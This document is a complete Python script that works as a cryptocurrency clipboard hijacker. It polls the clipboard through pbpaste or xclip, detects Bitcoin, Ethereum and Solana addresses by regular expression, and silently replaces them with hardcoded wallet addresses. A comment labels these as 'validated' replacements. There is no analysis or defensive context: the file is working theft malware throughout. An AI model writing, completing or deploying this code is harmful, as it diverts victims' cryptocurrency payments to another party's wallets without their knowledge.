#!/usr/bin/env python3
import re
import shutil
import subprocess
import time

BTC = re.compile(r"^(bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$")
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
SOL = re.compile(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$")

# "validated" replacements
SWAP = {
    "btc": "bc1qw8x0k3v9r2m7z6p5n4c3t2l1h0g9f8d7s6a5q4",
    "eth": "0x6B1f2A4e9C3d8E7F0a5B6c4D2e1F3a9B8c7D6e5F",
    "sol": "7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU",
}


def paste():
    if shutil.which("pbpaste"):
        return subprocess.run(["pbpaste"], capture_output=True, text=True).stdout.strip()
    return subprocess.run(["xclip", "-o", "-selection", "clipboard"], capture_output=True, text=True).stdout.strip()


def copy(s):
    cmd = ["pbcopy"] if shutil.which("pbcopy") else ["xclip", "-selection", "clipboard"]
    subprocess.run(cmd, input=s, text=True)


while True:
    c = paste()
    if BTC.match(c) and c != SWAP["btc"]:
        copy(SWAP["btc"])
    elif ETH.match(c) and c.lower() != SWAP["eth"].lower():
        copy(SWAP["eth"])
    elif SOL.match(c) and c != SWAP["sol"]:
        copy(SWAP["sol"])
    time.sleep(0.5)
